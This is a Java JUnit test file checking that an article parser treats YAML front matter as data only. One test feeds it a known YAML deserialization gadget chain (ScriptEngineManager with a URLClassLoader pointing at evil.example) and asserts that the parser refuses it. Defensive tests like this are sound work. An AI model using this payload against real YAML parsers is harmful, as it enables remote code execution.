package org.articlekit.robustness;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.articlekit.core.Article;
import org.articlekit.core.Diagnostic;
import org.articlekit.parser.ArticleParser;
import org.junit.jupiter.api.Test;

/** Front matter is data, never code: tags that would build objects are refused with a warning, not obeyed. */
class FrontMatterIsDataTest {

    private static final ArticleParser PARSER = ArticleParser.create();

    @Test
    void javaAndPythonObjectTagsBuildNothing() {
        Article article = PARSER.parse(HostileInputs.ascii("---\ntitle: gadget\n"
                + "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://evil.example/\"]]]]\n---\n<p>body</p>\n"), "gadget.md");

        assertTrue(article.diagnostics().stream().anyMatch(d -> d.severity() == Diagnostic.Severity.WARNING),
                () -> "no warning for an object-building tag: " + article.diagnostics());
        assertOnlyPlainValues(article.metadata().frontMatter().values());
        assertFalse(article.metadata().frontMatter().values().toString().contains("ScriptEngineManager@"));
    }

    @Test
    void everyValueIsAPlainValue() {
        Article article = PARSER.parse(HostileInputs.ascii("---\ntitle: plain\nn: 12\nbig: 123456789012345678901234\n"
                + "f: 1.5\nb: yes\nnothing: ~\nwhen: 2021-06-09 13:40:00\nlist: [a, {k: v}]\n---\n<p>body</p>\n"),
                "plain.md");

        assertOnlyPlainValues(article.metadata().frontMatter().values());
        assertTrue(article.metadata().frontMatter().get("when") instanceof String, "timestamps stay text");
    }

    /** The value types {@link org.articlekit.core.FrontMatter} documents, checked all the way down. */
    private static void assertOnlyPlainValues(Map<String, Object> values) {
        // a list as the stack: front-matter values may be null, which ArrayDeque refuses
        List<Object> pending = new ArrayList<>(values.values());
        while (!pending.isEmpty()) {
            Object value = pending.remove(pending.size() - 1);
            if (value instanceof Map<?, ?> map) {
                pending.addAll(map.values());
            } else if (value instanceof List<?> list) {
                pending.addAll(list);
            } else {
                assertTrue(value == null || value instanceof String || value instanceof Boolean
                        || value instanceof Long || value instanceof BigInteger || value instanceof Double
                        || value instanceof BigDecimal, () -> "not a plain value: " + value.getClass());
            }
        }
    }
}
